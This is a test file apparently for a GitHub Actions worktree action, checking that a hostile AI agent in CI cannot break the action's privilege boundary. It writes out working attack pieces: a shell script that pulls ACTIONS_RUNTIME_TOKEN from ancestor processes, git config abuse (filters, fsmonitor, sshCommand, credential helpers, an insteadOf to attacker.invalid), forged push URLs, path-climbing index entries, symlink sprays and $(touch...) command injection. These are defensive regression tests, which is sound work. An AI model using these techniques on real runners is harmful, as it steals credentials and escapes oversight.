// Covers: src/git/ (sealed-git, git-command-manager), src/os/processes.ts through the bundles.
// What an adversarial run found against the privilege boundary (privilege.test.ts states it): members of each
// family that the first cases did not plant. The agent's program here also looks for the runtime token in the
// environment of every process above it (the step's node carries it, readable by the same user): a program
// that runs in our steps at all has the token. Through the committed bundles, as the runner runs them.
import { createHash } from 'node:crypto'
import { execFileSync, spawnSync } from 'node:child_process'
import * as fs from 'node:fs'
import * as path from 'node:path'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { Job, type StepResult } from '../../scripts/runner.mjs'
import { serveOrigin } from '../helpers/http-origin.js'
import { addSubmodule, commit, git, makeRepos, readOrNull, write, type Repos } from '../helpers/repos.js'
import { startResultsService } from '../helpers/results-service.js'
import { warnings } from '../helpers/steps.js'

let repos: Repos
let log: string
const cleanups: (() => void | Promise<void>)[] = []
const root = process.getuid?.() === 0

beforeEach(() => {
  repos = makeRepos()
  log = path.join(repos.root, 'thief.log')
})
afterEach(async () => {
  for (const cleanup of cleanups.splice(0).reverse()) await cleanup()
  repos.cleanup()
})

function job(env: Record<string, string> = {}): Job {
  return new Job({
    workspace: repos.clone,
    temp: path.join(repos.root, 'runner', '_temp'),
    env: { GITHUB_RUN_ID: '5', GITHUB_RUN_ATTEMPT: '1', GITHUB_JOB: 'agents', RUNNER_NAME: 'runner-1', ...env },
    watchChildren: true
  })
}

/** The agent's program: logs that it ran, and any runtime token it finds in its own or an ancestor's environment. */
function thief(file: string): void {
  fs.writeFileSync(
    file,
    `#!/bin/sh
{
  printf 'ran: %s %s\\n' "$0" "$*"
  p=$$
  while [ -n "$p" ] && [ "$p" -gt 1 ]; do
    tr '\\0' '\\n' </proc/$p/environ 2>/dev/null | grep '^ACTIONS_RUNTIME_TOKEN=' | sed 's/^/token: /'
    p=$(awk '/^PPid:/{print $2}' /proc/$p/status 2>/dev/null)
  done
} >>'${log}' 2>/dev/null
exit 1
`,
    { mode: 0o755 }
  )
}

/** What the agent's programs logged since the last look. */
function ran(): string[] {
  const text = readOrNull(log) ?? ''
  fs.rmSync(log, { force: true })
  return text.split('\n').filter(Boolean)
}

function summary(step: StepResult): string {
  return `exit ${step.exitCode}\n${step.stdout.slice(-3000)}\n${step.stderr.slice(-1000)}`
}

/**
 * A partial-clone promisor remote in `config` whose "vcs" is a remote helper named with a path, run relative to
 * the git call's folder (`cwd`), its protocol allowed by name: git would run it the moment an object is missing.
 */
function plantLazyFetch(repoDir: string, config: string, cwd: string): void {
  const set = (key: string, value: string): string => git(repoDir, 'config', '--file', config, key, value)
  set('core.repositoryformatversion', '1')
  set('extensions.partialClone', 'lazy')
  set('remote.lazy.promisor', 'true')
  set('remote.lazy.url', 'nowhere')
  set('remote.lazy.vcs', 'x/../evil')
  set('protocol.x/../evil.allow', 'always')
  fs.mkdirSync(path.join(cwd, 'git-remote-x'), { recursive: true })
  thief(path.join(cwd, 'evil'))
}

const MISSING = 'f'.repeat(40)

describe('a lazy fetch of a planted promisor remote never runs in our steps', () => {
  it('post: the shared config names it and the worktree’s HEAD is missing', async () => {
    const j = job()
    const main = await j.uses('.', { name: 'lazy-post' })
    const wt = main.outputs['worktree-path']
    write(wt, 'notes.txt', 'notes\n')
    plantLazyFetch(repos.clone, path.join(repos.clone, '.git', 'config'), wt)
    fs.writeFileSync(path.join(main.outputs['git-dir'], 'HEAD'), `${MISSING}\n`)
    const [post] = await j.runPosts()
    expect(ran(), summary(post)).toEqual([])
    expect(fs.existsSync(wt)).toBe(true)
  })

  it('post: a nested repository’s and a submodule’s own config name it, their HEADs missing', async () => {
    addSubmodule(repos)
    const j = job()
    const main = await j.uses('.', { name: 'lazy-nested' })
    const wt = main.outputs['worktree-path']
    git(wt, '-c', 'protocol.file.allow=always', 'submodule', 'update', '--init', '--quiet')
    const nested = path.join(wt, 'vendor', 'lib')
    fs.mkdirSync(nested, { recursive: true })
    git(nested, 'init', '--quiet')
    commit(nested, 'lib.txt')
    plantLazyFetch(nested, path.join(nested, '.git', 'config'), nested)
    fs.writeFileSync(path.join(nested, '.git', 'HEAD'), `${MISSING}\n`)
    const sub = path.join(wt, 'lib')
    const subGitDir = git(sub, 'rev-parse', '--absolute-git-dir')
    plantLazyFetch(sub, path.join(subGitDir, 'config'), sub)
    fs.writeFileSync(path.join(subGitDir, 'HEAD'), `${MISSING}\n`)
    const [post] = await j.runPosts()
    expect(ran(), summary(post)).toEqual([])
    expect(fs.existsSync(wt)).toBe(true)
  })

  it('exit sub-action, and the sweep of a later job', async () => {
    const earlier = job({ GITHUB_RUN_ID: '4' })
    const main = await earlier.uses('.', { name: 'lazy-exit' })
    const wt = main.outputs['worktree-path']
    write(wt, 'notes.txt', 'notes\n')
    plantLazyFetch(repos.clone, path.join(repos.clone, '.git', 'config'), wt)
    fs.writeFileSync(path.join(main.outputs['git-dir'], 'HEAD'), `${MISSING}\n`)
    const exit = await earlier.uses('exit', {})
    expect(ran(), summary(exit)).toEqual([])
    // (no post for the earlier job: its runner died) The next job's main step sweeps the leftover.
    const next = await job().uses('.', { name: 'after-lazy' })
    expect(ran(), summary(next)).toEqual([])
    expect(fs.existsSync(wt)).toBe(true)
  })
})

describe('other repositories’ configuration never runs in our steps', () => {
  it('a clean filter in a submodule’s own config: not in the exit’s snapshot, not in the post’s', async () => {
    addSubmodule(repos)
    const j = job()
    const main = await j.uses('.', { name: 'sub-filter' })
    const wt = main.outputs['worktree-path']
    git(wt, '-c', 'protocol.file.allow=always', 'submodule', 'update', '--init', '--quiet')
    const lib = path.join(wt, 'lib')
    const subGitDir = git(lib, 'rev-parse', '--absolute-git-dir')
    const program = path.join(repos.root, 'filter.sh')
    thief(program)
    git(lib, 'config', '--file', path.join(subGitDir, 'config'), 'filter.evil.clean', program)
    fs.mkdirSync(path.join(subGitDir, 'info'), { recursive: true })
    fs.writeFileSync(path.join(subGitDir, 'info', 'attributes'), '* filter=evil\n')
    // Same bytes, new time: git would read the file again, through the filter.
    fs.utimesSync(path.join(lib, 'lib.txt'), new Date(), new Date(Date.now() + 5000))
    write(wt, 'notes.txt', 'notes\n')
    const exit = await j.uses('exit', { 'on-exit': 'keep' })
    expect(ran(), summary(exit)).toEqual([])
    fs.utimesSync(path.join(lib, 'lib.txt'), new Date(), new Date(Date.now() + 9000))
    git(repos.clone, 'config', 'extensions.worktreeConfig', 'false')
    const [post] = await j.runPosts()
    expect(ran(), summary(post)).toEqual([])
  })

  it('a smudge filter in a parked worktree’s own config.worktree: not in the main step that takes it from the pool', async () => {
    const earlier = job({ GITHUB_RUN_ID: '4' })
    const main = await earlier.uses('.', { name: 'pooled', recycle: 'true' })
    const program = path.join(repos.root, 'smudge.sh')
    thief(program)
    git(repos.clone, 'config', 'extensions.worktreeConfig', 'true')
    git(repos.clone, 'config', '--file', path.join(main.outputs['git-dir'], 'config.worktree'), 'filter.evil.smudge', program)
    fs.mkdirSync(path.join(repos.clone, '.git', 'info'), { recursive: true })
    fs.writeFileSync(path.join(repos.clone, '.git', 'info', 'attributes'), 'new.txt filter=evil\n')
    const [post] = await earlier.runPosts()
    expect(post.stdout, summary(post)).toMatch(/Parked/)
    ran()
    // The repository moves on; the next job enters from the pool.
    commit(repos.clone, 'new.txt', 'new\n')
    const next = await job().uses('.', { name: 'taker', recycle: 'true' })
    expect(next.stdout, summary(next)).toMatch(/Took .* from the pool/)
    expect(ran(), summary(next)).toEqual([])
  })

  it('variables a step exports (GIT_CONFIG_COUNT and its keys; XDG_CONFIG_HOME with an insteadOf and an ssh command): nothing runs in the post or its push', async () => {
    const program = path.join(repos.root, 'evil.sh')
    thief(program)
    const j = job()
    const main = await j.uses('.', { name: 'exported', rescue: 'branch' })
    write(main.outputs['worktree-path'], 'notes.txt', 'notes\n')
    const settings: [string, string][] = [
      ['core.fsmonitor', program],
      ['core.hooksPath', path.join(repos.root, 'hooks')],
      [`remote.${repos.origin}.receivepack`, program],
      ['core.sshCommand', program],
      ['credential.helper', `!${program}`]
    ]
    j.exported.GIT_CONFIG_COUNT = String(settings.length)
    settings.forEach(([k, v], i) => Object.assign(j.exported, { [`GIT_CONFIG_KEY_${i}`]: k, [`GIT_CONFIG_VALUE_${i}`]: v }))
    const xdg = path.join(repos.root, 'xdg')
    write(xdg, 'git/config', `[url "ssh://attacker.invalid/x.git"]\n\tinsteadOf = ${repos.origin}\n[core]\n\tsshCommand = ${program}\n`)
    j.exported.XDG_CONFIG_HOME = xdg
    const [post] = await j.runPosts()
    expect(ran(), summary(post)).toEqual([])
  })
})

describe('every step ends on its own, and hears the runner', () => {
  it('mailmap.file = /dev/urandom in the shared config: the exit and the post end on their own', async () => {
    const j = job()
    const main = await j.uses('.', { name: 'mailmap' })
    write(main.outputs['worktree-path'], 'notes.txt', 'notes\n')
    git(repos.clone, 'config', 'mailmap.file', '/dev/urandom')
    const exit = await j.uses('exit', {}, { timeoutMinutes: 0.5 })
    expect(exit.stoppedBy, summary(exit)).toBeUndefined()
    const [post] = await j.runPosts({ timeoutMinutes: 0.5 })
    expect(post.stoppedBy, summary(post)).toBeUndefined()
  })

  it('logs/refs a link to a big folder, a 40 MB reflog and a 40 MB ref without a newline: the post ends in seconds, or at SIGINT', async () => {
    const j = job()
    const main = await j.uses('.', { name: 'huge' })
    const wt = main.outputs['worktree-path']
    const gitDir = main.outputs['git-dir']
    write(wt, 'notes.txt', 'notes\n')
    const logsRefs = path.join(gitDir, 'logs', 'refs')
    fs.rmSync(logsRefs, { recursive: true, force: true })
    fs.symlinkSync('/usr', logsRefs)
    // Sparse files of zeros: they cost the agent nothing.
    execFileSync('truncate', ['-s', '40M', path.join(gitDir, 'logs', 'HEAD')])
    fs.mkdirSync(path.join(gitDir, 'refs', 'worktree'), { recursive: true })
    execFileSync('truncate', ['-s', '40M', path.join(gitDir, 'refs', 'worktree', 'x')])
    const [post] = await j.runPosts({ cancel: { afterMs: 5000 } })
    expect(
      post.signals.map(s => s.signal).filter(s => s !== 'SIGINT'),
      summary(post)
    ).toEqual([])
    expect(readOrNull(path.join(wt, 'notes.txt'))).toBe('notes\n')
  })

  it('include.path and objects/info/alternates named pipes: the post ends within 30 s and keeps the worktree', async () => {
    const j = job()
    const main = await j.uses('.', { name: 'piped' })
    const wt = main.outputs['worktree-path']
    write(wt, 'notes.txt', 'notes\n')
    execFileSync('mkfifo', [path.join(repos.clone, '.git', 'included.config')])
    git(repos.clone, 'config', 'include.path', path.join(repos.clone, '.git', 'included.config'))
    execFileSync('mkfifo', [path.join(repos.clone, '.git', 'objects', 'info', 'alternates')])
    const [post] = await j.runPosts({ timeoutMinutes: 2 })
    expect(post.stoppedBy, summary(post)).toBeUndefined()
    expect(post.durationMs).toBeLessThan(30_000)
    expect(warnings(post).join('\n')).toMatch(/Kept/)
    expect(readOrNull(path.join(wt, 'notes.txt'))).toBe('notes\n')
  })

  it.skipIf(!root)('a 4 GB sparse index (as root: RUNNER_TEMP on a 128 MB file system): not copied, the worktree kept', async () => {
    const runnerDir = path.join(repos.root, 'runner')
    fs.mkdirSync(runnerDir, { recursive: true })
    execFileSync('mount', ['-t', 'tmpfs', '-o', 'size=128m', 'tmpfs', runnerDir])
    cleanups.push(() => void spawnSync('umount', ['-l', runnerDir]))
    const j = job()
    const main = await j.uses('.', { name: 'huge-index' })
    const wt = main.outputs['worktree-path']
    write(wt, 'notes.txt', 'notes\n')
    execFileSync('truncate', ['-s', '4G', path.join(main.outputs['git-dir'], 'index')])
    const [post] = await j.runPosts({ timeoutMinutes: 1 })
    const said = warnings(post).join('\n')
    expect(said, summary(post)).not.toMatch(/ENOSPC|no space left/i)
    expect(said).toMatch(/Kept .*state could not be determined/)
    expect(fs.existsSync(wt)).toBe(true)
  })
})

/** The record file, rewritten as the agent would. */
function forge(gitDir: string, change: (record: Record<string, unknown>) => void): void {
  const file = path.join(gitDir, 'agent-worktree.json')
  const record = JSON.parse(fs.readFileSync(file, 'utf8')) as Record<string, unknown>
  change(record)
  fs.writeFileSync(file, JSON.stringify(record))
}

describe('what a forged record names stays out of reach', () => {
  it('its push URL: the exit sub-action pushes nowhere but to the remote of enter', async () => {
    const elsewhere = path.join(repos.root, 'attacker.git')
    git(repos.root, 'init', '--quiet', '--bare', elsewhere)
    const attacker = await serveOrigin(elsewhere, { open: true })
    cleanups.push(() => attacker.close())
    const j = job()
    const main = await j.uses('.', { name: 'exfil', rescue: 'branch' })
    write(main.outputs['worktree-path'], 'notes.txt', 'notes\n')
    forge(main.outputs['git-dir'], record => {
      ;(record.push as Record<string, unknown>).url = attacker.url
    })
    const exit = await j.uses('exit', { rescue: 'branch' })
    expect(attacker.requests, summary(exit)).toEqual([])
    expect(git(elsewhere, 'for-each-ref')).toBe('')
  })

  it('its links: a link outside the worktree survives the exit sub-action and the sweep', async () => {
    // Someone's link outside every worktree, which a record's "links" names as if the action had made it.
    const target = path.join(repos.root, 'cache', 'opt', 'tool')
    fs.mkdirSync(target, { recursive: true })
    fs.mkdirSync(path.join(repos.root, 'opt'))
    const link = path.join(repos.root, 'opt', 'tool')
    fs.symlinkSync(target, link)
    const repository = path.join(repos.root, 'cache', 'a', 'b', 'c', 'd')
    fs.mkdirSync(repository, { recursive: true })
    const bend = (record: Record<string, unknown>): void => {
      record.links = ['../../../../opt/tool']
      record.repository = repository
    }
    const j = job()
    const main = await j.uses('.', { name: 'links' })
    forge(main.outputs['git-dir'], bend)
    const exit = await j.uses('exit', {})
    expect(fs.lstatSync(link, { throwIfNoEntry: false })?.isSymbolicLink(), summary(exit)).toBe(true)
    const earlier = job({ GITHUB_RUN_ID: '4' })
    const left = await earlier.uses('.', { name: 'links-leftover' })
    forge(left.outputs['git-dir'], bend)
    const next = await job().uses('.', { name: 'next' })
    expect(fs.lstatSync(link, { throwIfNoEntry: false })?.isSymbolicLink(), summary(next)).toBe(true)
  })
})

/** Renames entries of a git index (version 2 or 3) to anything, extensions dropped, its checksum written again. */
function renameIndexEntries(file: string, renames: Record<string, string>): void {
  const data = fs.readFileSync(file)
  const version = data.readUInt32BE(4)
  const count = data.readUInt32BE(8)
  const entries: { fixed: Buffer; extended: Buffer; name: Buffer }[] = []
  let at = 12
  for (let i = 0; i < count; i++) {
    const fixed = data.subarray(at, at + 62)
    const flags = fixed.readUInt16BE(60)
    const start = at + 62 + (version === 3 && flags & 0x4000 ? 2 : 0)
    const end = data.indexOf(0, start)
    const name = data.subarray(start, end).toString()
    entries.push({ fixed, extended: data.subarray(at + 62, start), name: Buffer.from(renames[name] ?? name) })
    at += Math.ceil((start - at + name.length + 1) / 8) * 8
  }
  entries.sort((a, b) => Buffer.compare(a.name, b.name))
  const parts = [data.subarray(0, 12)]
  for (const { fixed, extended, name } of entries) {
    const head = Buffer.from(fixed)
    head.writeUInt16BE((head.readUInt16BE(60) & 0xf000) | Math.min(name.length, 0xfff), 60)
    const entry = Buffer.concat([head, extended, name, Buffer.alloc(1)])
    parts.push(entry, Buffer.alloc((8 - (entry.length % 8)) % 8))
  }
  const body = Buffer.concat(parts)
  fs.writeFileSync(file, Buffer.concat([body, createHash('sha1').update(body).digest()]))
}

describe('reads and writes stay inside the worktree and its git dir', () => {
  it('an index entry climbing out of the worktree (`../`): the file it names is neither read into the object store nor rescued', async () => {
    const j = job()
    const main = await j.uses('.', { name: 'climb', rescue: 'branch' })
    const wt = main.outputs['worktree-path']
    const gitDir = main.outputs['git-dir']
    // A secret of the runner's, outside the worktree (as actions/checkout's persisted credentials are).
    const secret = path.join(repos.root, 'runner', '_temp', 'git-credentials-0f0e0d0c-0b0a-4908-8706-050403020100.config')
    fs.writeFileSync(secret, '[http "https://github.com/"]\n\textraheader = AUTHORIZATION: basic c2VjcmV0LXRva2Vu\n', { mode: 0o600 })
    const secretId = execFileSync('git', ['hash-object', '--stdin'], { input: fs.readFileSync(secret) })
      .toString()
      .trim()
    write(wt, 'placeholder.txt', 'x\n')
    git(wt, 'add', 'placeholder.txt')
    renameIndexEntries(path.join(gitDir, 'index'), { 'placeholder.txt': path.relative(wt, secret) })
    fs.rmSync(path.join(wt, 'placeholder.txt'))
    const [post] = await j.runPosts()
    expect(spawnSync('git', ['cat-file', '-e', secretId], { cwd: repos.clone }).status, summary(post)).not.toBe(0)
    expect(spawnSync('git', ['cat-file', '-e', secretId], { cwd: repos.origin }).status).not.toBe(0)
  })

  it('links the agent planted where we write (the record’s temp names, logs/HEAD, locked): every file they name stays as it was', async () => {
    const victim = path.join(repos.root, 'precious.json')
    fs.writeFileSync(victim, '{"precious":true}\n')
    const j = job()
    const main = await j.uses('.', { name: 'spray', recycle: 'true' })
    const wt = main.outputs['worktree-path']
    const gitDir = main.outputs['git-dir']
    write(wt, 'notes.txt', 'notes\n')
    // The next pids, as the post's would be (pids are handed out in order).
    const from = Number(spawnSync('/bin/sh', ['-c', 'echo $$'], { encoding: 'utf8' }).stdout.trim())
    for (let pid = from; pid < from + 2000; pid++) fs.symlinkSync(victim, path.join(gitDir, `agent-worktree.json.${pid}.tmp`))
    const reflog = path.join(gitDir, 'logs', 'HEAD')
    fs.rmSync(reflog)
    fs.symlinkSync(victim, reflog)
    const [post] = await j.runPosts()
    expect(readOrNull(victim), summary(post)).toBe('{"precious":true}\n')
    // A worktree kept by an ended job, its lock a link: entering it by path writes no file through it.
    const created = path.join(repos.root, 'elsewhere', 'created-by-main')
    fs.mkdirSync(path.dirname(created))
    fs.rmSync(path.join(gitDir, 'locked'), { force: true })
    fs.symlinkSync(created, path.join(gitDir, 'locked'))
    const next = await job({ GITHUB_RUN_ID: '6' }).uses('.', { path: wt })
    expect(readOrNull(created), summary(next)).toBeNull()
    expect(readOrNull(victim)).toBe('{"precious":true}\n')
  })

  it.skipIf(!root)('a bind mount inside a worktree whose registered path leads through a link: kept, the files of the mount intact (needs root)', async () => {
    const elsewhere = path.join(repos.root, 'elsewhere')
    write(elsewhere, 'precious.txt', 'precious\n')
    const j = job()
    const main = await j.uses('.', { name: 'aliased' })
    const wt = main.outputs['worktree-path']
    const point = path.join(wt, 'build')
    fs.mkdirSync(point)
    execFileSync('mount', ['--bind', elsewhere, point])
    cleanups.push(() => {
      for (const line of fs.readFileSync('/proc/self/mountinfo', 'utf8').split('\n')) {
        const at = line.split(' ')[4]
        if (at?.startsWith(repos.root)) spawnSync('umount', ['-l', at])
      }
    })
    const alias = path.join(repos.root, 'alias')
    fs.symlinkSync(path.dirname(wt), alias)
    fs.writeFileSync(path.join(main.outputs['git-dir'], 'gitdir'), `${path.join(alias, path.basename(wt), '.git')}\n`)
    const [post] = await j.runPosts()
    expect(readOrNull(path.join(elsewhere, 'precious.txt')), summary(post)).toBe('precious\n')
    expect(fs.existsSync(wt)).toBe(true)
  })
})

/** Runs a command line as a person would paste it into a shell, with a git and a gh that do nothing. */
function paste(command: string): void {
  const bin = path.join(repos.root, 'paste-bin')
  fs.mkdirSync(bin, { recursive: true })
  for (const tool of ['git', 'gh']) fs.writeFileSync(path.join(bin, tool), '#!/bin/sh\nexit 0\n', { mode: 0o755 })
  spawnSync('/bin/sh', ['-c', command], { cwd: repos.root, env: { PATH: `${bin}:/usr/bin:/bin` } })
}

describe('commands a person may paste run nothing of the agent’s', () => {
  it('the command that saves a kept worktree’s work: a branch name and a folder of the agent’s choosing', async () => {
    const j = job()
    const main = await j.uses('.', { name: 'paste' })
    const wt = main.outputs['worktree-path']
    git(wt, 'switch', '--quiet', '-c', '$(touch${IFS}PWNED-BY-BRANCH)')
    write(wt, 'notes.txt', 'notes\n')
    const moved = path.join(repos.root, 'x$(touch${IFS}PWNED-BY-FOLDER)')
    git(repos.clone, 'worktree', 'move', '-f', '-f', wt, moved)
    const [post] = await j.runPosts()
    const command = /^To save it, run `(cd .* push .*)`\.$/m.exec(warnings(post).join('\n'))?.[1]
    expect(command, summary(post)).toBeDefined()
    paste(command!)
    expect(
      fs.readdirSync(repos.root).filter(name => name.startsWith('PWNED')),
      command
    ).toEqual([])
  })

  it('the artifact’s README.txt: a git dir id the agent renamed', async () => {
    const service = await startResultsService()
    cleanups.push(() => service.close())
    const j = job({ ...service.env, GITHUB_REPOSITORY: 'octo/sample' })
    const main = await j.uses('.', { name: 'artifact-id', rescue: 'artifact' })
    const wt = main.outputs['worktree-path']
    write(wt, 'notes.txt', 'notes\n')
    const gitDir = main.outputs['git-dir']
    const renamed = path.join(path.dirname(gitDir), '$(touch${IFS}PWNED-README)')
    fs.renameSync(gitDir, renamed)
    fs.writeFileSync(path.join(wt, '.git'), `gitdir: ${renamed}\n`)
    const [post] = await j.runPosts()
    const zip = [...service.artifacts.values()][0]
    expect(zip, summary(post)).toBeDefined()
    fs.writeFileSync(path.join(repos.root, 'artifact.zip'), zip)
    execFileSync('unzip', ['-q', path.join(repos.root, 'artifact.zip'), '-d', path.join(repos.root, 'unpacked')])
    const readme = fs.readFileSync(path.join(repos.root, 'unpacked', 'README.txt'), 'utf8')
    for (const line of readme.split('\n').filter(l => /^\s+(git|gh) /.test(l))) paste(line.trim())
    expect(
      fs.readdirSync(repos.root).filter(name => name.startsWith('PWNED')),
      readme
    ).toEqual([])
  })
})
